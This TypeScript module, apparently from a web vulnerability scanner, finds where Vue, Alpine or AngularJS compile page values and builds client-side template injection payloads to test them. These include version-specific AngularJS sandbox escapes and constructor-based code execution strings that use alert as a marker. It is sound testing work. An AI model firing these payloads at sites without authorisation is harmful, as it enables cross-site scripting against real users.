import type { HtmlElement } from '../../probe/html/parse.ts';
import { attributeOf, isElement, nodesOf } from '../../probe/html/tree.ts';
import { type ScriptState, scriptStateAt } from './script-state.ts';
import type { Payload } from './xss-payloads.ts';

/** Where a value stands in what a library compiles in the browser: the text of a page, or an attribute that is an expression. */
export type TemplatePlace = { kind: 'text' } | { kind: 'directive'; attribute: string; state: ScriptState };

/** A value that runs an expression, and the same without what makes an expression of it. */
export type TemplatePayload = Payload & { inert: string };

const call = 'alert(/‹nonce›/.source)';
/** AngularJS up to 1.3 cuts names at dots. */
const bareCall = 'alert`‹nonce›`';
const fromText = `''.constructor.constructor('${call}')()`;
/** Without quotes, where those are removed or get a backslash; AngularJS has no such texts. */
const withoutQuotes = `[].at.constructor(\`${call}\`)()`;

/**
 * What leaves the sandbox that AngularJS had up to 1.5, and what works since then. Each is for the versions below `until`.
 * The sandbox was no boundary of security by its authors' own words: AngularJS, Developer Guide, Security.
 */
const forAngular: readonly (readonly [until: readonly [number, number, number], expression: string])[] = [
  [
    [1, 2, 19],
    `k='constructor';f=k.sub;f.call.call(({})[k].getOwnPropertyDescriptor(({})[k].getPrototypeOf(f),k).value,0,'${call}')()`,
  ],
  [[1, 3, 0], `'a'.constructor.prototype.charAt=''.valueOf;$eval('x=\\'"+${bareCall}+"\\'')`],
  [[1, 4, 0], `o={p:''.constructor.prototype};o['p'].charAt=[].join;$eval('x=${bareCall}')`],
  [[1, 6, 0], `o={p:''.constructor.prototype};o['p'].charAt=[].join;$eval('x=${call}')`],
];

/** Attributes whose values Vue, Alpine and AngularJS take for expressions. */
const directive = /^(?:data-)?(?:x-|v-|ng-)|^[@:]/;
/** Elements whose text is no part of a template. */
const plain = new Set(['script', 'style', 'title', 'noscript', 'iframe', 'noembed', 'noframes', 'xmp']);

/** The places in a page where a word stands that a library may compile, each kind once. */
export function templatePlaces(html: string, word: string): TemplatePlace[] {
  const found = new Map<string, TemplatePlace>();
  const add = (place: TemplatePlace) => found.set(JSON.stringify(place), place);
  for (const node of nodesOf(html)) {
    if (node.nodeName === '#text' && 'value' in node && node.value.includes(word) && !isPlain(node.parentNode))
      add({ kind: 'text' });
    if (!isElement(node)) continue;
    for (const { name, value } of node.attrs) {
      const at = value.indexOf(word);
      if (at === -1) continue;
      if (directive.test(name)) add({ kind: 'directive', attribute: name, state: scriptStateAt(value, at) });
      // AngularJS compiles expressions in attributes as well.
      else add({ kind: 'text' });
    }
  }
  return [...found.values()];
}

const isPlain = (parent: unknown): boolean =>
  parent !== null && typeof parent === 'object' && 'tagName' in parent && plain.has((parent as HtmlElement).tagName);

/** A page whose own HTML or script says that a library compiles it in the browser. */
export function isCompiled(html: string, scripts: readonly string[]): boolean {
  const inMarkup = [...nodesOf(html)].some(
    (node) =>
      isElement(node) &&
      (node.attrs.some(({ name }) => directive.test(name)) ||
        (node.tagName === 'script' && /\b(?:vue|petite-vue|angular|alpine)/i.test(attributeOf(node, 'src') ?? ''))),
  );
  return inMarkup || scripts.some((text) => /\b(?:__VUE__|createApp|new Vue|Vue\.|angular\.|Alpine\.)/.test(text));
}

/**
 * Values to try, the likeliest first.
 * @param libraries as a browser has seen them run: "angularjs 1.5.8"
 * @param scripts which may choose other signs for expressions
 */
export function templatePayloads(
  place: TemplatePlace,
  libraries: readonly string[],
  scripts: readonly string[] = [],
): TemplatePayload[] {
  if (place.kind === 'directive') return directivePayloads(place);
  const expressions = [escapeFor(libraries) ?? fromText, ...(libraries.some(isAngular) ? [] : [withoutQuotes])];
  return signsIn(scripts).flatMap(([begin, end]) =>
    expressions.map((expression) => ({ value: `${begin}${expression}${end}`, inert: expression })),
  );
}

const isAngular = (library: string): boolean => library.startsWith('angularjs ');

function escapeFor(libraries: readonly string[]): string | undefined {
  const version = libraries.find(isAngular)?.split(' ')[1];
  const parts = version?.split('.').map((part) => Number.parseInt(part, 10));
  if (!parts) return undefined;
  return forAngular.find(([until]) => isBefore(parts, until))?.[1];
}

function isBefore(version: readonly number[], until: readonly number[]): boolean {
  const at = until.findIndex((part, index) => (version[index] ?? 0) !== part);
  return at !== -1 && (version[at] ?? 0) < (until[at] ?? 0);
}

const usualSigns: Signs = ['{{', '}}'];
type Signs = readonly [begin: string, end: string];

/** How Vue and AngularJS are configured for other delimiters: `delimiters: ["[[", "]]"]`, `startSymbol("[[").endSymbol("]]")`. */
const chosenSigns = [
  /\bdelimiters\s*[:=]\s*\[\s*["'`]([^\w\s"'`]{1,4})["'`]\s*,\s*["'`]([^\w\s"'`]{1,4})["'`]/,
  /\bstartSymbol\(\s*["'`]([^\w\s"'`]{1,4})["'`]\s*\)[^'"`]{0,80}\bendSymbol\(\s*["'`]([^\w\s"'`]{1,4})["'`]/,
];

/** Sites whose server has "{{" for its own templates give the browser's library other signs. */
function signsIn(scripts: readonly string[]): Signs[] {
  const chosen = scripts.flatMap((text) =>
    chosenSigns.flatMap((pattern): Signs[] => {
      const [, begin, end] = pattern.exec(text) ?? [];
      return begin === undefined || end === undefined ? [] : [[begin, end]];
    }),
  );
  return [...chosen, usualSigns];
}

function directivePayloads({ attribute, state }: TemplatePlace & { kind: 'directive' }): TemplatePayload[] {
  const clicks = /click(?:$|\.)/.test(attribute)
    ? { clicks: [`[${attribute.replace(/[^\w-]/g, '\\$&')}*="‹nonce›"]`] }
    : {};
  return expressionsAt(state).map((value) => ({ value, inert: '‹nonce›', ...clicks }));
}

function expressionsAt(state: ScriptState): string[] {
  switch (state) {
    case "'":
    case '"':
      return [`${state}+${fromText}+${state}`, `${state}+${withoutQuotes}+${state}`];
    case '`':
      return [`\${${fromText}}`];
    case 'code':
      return [fromText, withoutQuotes];
    default:
      return [];
  }
}
